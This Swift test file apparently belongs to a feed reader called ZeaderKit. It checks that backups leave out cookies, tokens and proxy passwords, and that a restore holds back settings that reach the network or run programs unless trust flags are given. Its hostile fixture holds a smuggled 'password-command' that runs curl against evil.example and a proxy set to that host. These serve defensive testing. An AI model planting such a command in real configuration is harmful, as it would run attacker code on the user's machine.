import Foundation
import LoopbackHTTPServer
import Testing

@testable import ZeaderKit

/// A backup carries each feed's own settings and each item's tags; it holds no secret, and a
/// restore installs no setting that reaches the network or runs a program unless trusted.
@Suite struct BackupSettingsTests {
    @Test("an export leaves secrets out; a restore withholds what reaches the network unless trusted")
    func settingsTravelWithoutSecrets() throws {
        #expect(
            BackupSettings.exported(
                "timeout 20; cookie s=abc; header X-Token: t0k; proxy-auth u:pw; proxy http://u:pw@127.0.0.1:3128; ssl-verify no")
                == "timeout 20; ssl-verify no")
        #expect(BackupSettings.exported("proxy 127.0.0.1:3128") == "proxy 127.0.0.1:3128")
        #expect(BackupSettings.exported("cookie a=b") == nil)
        #expect(BackupSettings.exported("not a setting") == nil)

        let hostile =
            "max-items 5; PROXY http://evil.example:8080; Header Authorization: x; cookie-cache /etc/x; "
            + "ssl-verify no; password-command sh -c 'curl evil.example'; use-proxy yes"
        var (settings, withheld) = try BackupSettings.restored(hostile, over: "timeout 9; proxy 127.0.0.1:1", trust: .init())
        #expect(settings.text == "timeout 9; proxy 127.0.0.1:1; max-items 5")
        #expect(withheld == [.proxy, .header, .cookieCache, .sslVerify, .passwordCommand, .useProxy])
        (settings, withheld) = try BackupSettings.restored(hostile, over: nil, trust: .init(network: true))
        #expect(withheld == [.passwordCommand])
        #expect(settings.value(.proxy) == "http://evil.example:8080")
        (settings, withheld) = try BackupSettings.restored(hostile, over: nil, trust: .init(network: false, commands: true))
        #expect(withheld.contains(.passwordCommand) && withheld.contains(.proxy))
        (_, withheld) = try BackupSettings.restored(hostile, over: nil, trust: .init(network: true, commands: true))
        #expect(withheld.isEmpty)
        #expect(throws: FeedSettingsError.self) { try BackupSettings.restored("colour red", over: nil, trust: .init()) }
    }

    @Test("through the binary: export, then import elsewhere with and without --trust-settings")
    func throughTheBinary() async throws {
        try await withLoopbackServer({ _ in .ok(rss(items: [("g1", "Release 1"), ("g2", "Other")])) }) { http in
            let dir = try temporaryDirectory()
            defer { try? FileManager.default.removeItem(at: dir) }
            let db = dir.appendingPathComponent("z.sqlite").path
            let url = http.url("/feed").absoluteString
            #expect(try zeader(["add", url, "--db", db], in: dir).status == 0)
            for (key, value) in [
                ("timeout", "20"), ("cookie", "session=c00kie-secret"), ("header", "X-Token: h3ader-secret"),
                ("proxy-auth", "u:pr0xy-secret"), ("ssl-verify", "no"), ("password-command", "echo pw"),
            ] {
                let r = try zeader(["set", url, key, value, "--db", db], in: dir)
                #expect(r.status == 0, "\(r.stderr)")
            }
            try writeConfig(#"rule title BEGINSWITH "Release" -> tag releases"# + "\n", in: dir)
            #expect(try zeader(["refresh", "--db", db], in: dir).status == 0)
            let backup = try zeader(["export", "--json", "--db", db], in: dir)
            #expect(backup.status == 0)
            for secret in ["c00kie-secret", "h3ader-secret", "pr0xy-secret"] { #expect(!backup.stdout.contains(secret)) }
            #expect(backup.stdout.contains(#""settings":"timeout 20; ssl-verify no; password-command"#), "\(backup.stdout)")
            #expect(backup.stdout.contains(#""tags":["releases"]"#), "\(backup.stdout)")
            let file = dir.appendingPathComponent("backup.json")
            try backup.stdout.write(to: file, atomically: true, encoding: .utf8)

            func restored(_ options: [String]) throws -> (CommandResult, String) {
                let other = dir.appendingPathComponent("other-\(options.joined()).sqlite").path
                let r = try zeader(["import", file.path, "--db", other] + options, in: dir)
                return (r, try zeader(["list", "--json", "--db", other], in: dir).stdout)
            }
            var (r, list) = try restored([])
            #expect(r.status == 0, "\(r.stderr)")
            #expect(
                r.stderr.contains(
                    "\(url): settings ssl-verify, password-command not restored: a backup's settings that reach the network or run a program need --trust-settings and --allow-commands"
                ), "\(r.stderr)")
            #expect(list.contains(#""timeout":"20""#) && !list.contains("ssl-verify"), "\(list)")
            (r, list) = try restored(["--trust-settings"])
            #expect(r.stderr.contains("settings password-command not restored"), "\(r.stderr)")
            #expect(list.contains(#""ssl-verify":"no""#) && !list.contains("password-command"), "\(list)")
            (r, list) = try restored(["--trust-settings", "--allow-commands"])
            #expect(r.stderr.isEmpty, "\(r.stderr)")
            #expect(list.contains(#""password-command":"echo pw""#), "\(list)")
            let other = dir.appendingPathComponent("other-.sqlite").path
            r = try zeader(["items", "--where", #"tags CONTAINS "releases""#, "--db", other], in: dir)
            #expect(r.stdout.contains("Release 1") && !r.stdout.contains("Other"), "\(r.stdout)")
        }
    }
}
